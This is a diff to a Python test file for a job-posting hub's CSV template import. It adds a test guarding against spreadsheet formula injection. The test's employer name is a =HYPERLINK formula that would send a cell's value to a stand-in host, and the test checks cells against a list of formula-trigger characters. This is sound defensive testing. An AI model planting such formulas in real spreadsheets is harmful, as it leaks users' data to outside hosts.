@@ -2,7 +2,9 @@
 dates (2026/12/5, 2026年12月5日, serial numbers, with a time), every problem of every row reported
 at once in Chinese with what would be right, and the downloadable template importing unchanged."""
 
+import csv
 import datetime as dt
+import io
 import re
 from html import unescape
 from pathlib import Path
@@ -125,6 +127,20 @@ def test_the_downloaded_template_imports_unchanged(hub):
     assert answer.status_code == 200 and "已导入 1 个岗位" in answer.text, answer.text
     with hub.app.state.db.read() as s:
         assert s.scalar(select(func.count()).select_from(Posting)) == before + 1
+
+
+def test_the_template_never_carries_a_name_a_spreadsheet_would_run(hub):
+    """Any staff member may name an employer =HYPERLINK(…) (it sorts first): the template every
+    staff member opens in Excel picks the first name that is plain text, and still imports."""
+    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"点这里")'
+    body = {"name": hostile, "contact_person": "李经理", "contact_phone": "13800002222", "district": "青川区"}
+    hub.ok("POST", "/api/v1/employers", json=body)
+    client = logged_in(hub)
+    template = client.get("/staff/postings/import.csv")
+    cells = [c for row in csv.reader(io.StringIO(template.content.decode("utf-8-sig"))) for c in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    answer = upload(client, template.content)
+    assert answer.status_code == 200 and "已导入 1 个岗位" in answer.text, answer.text
 
 
 def test_what_is_wrong_with_the_file_itself(hub):
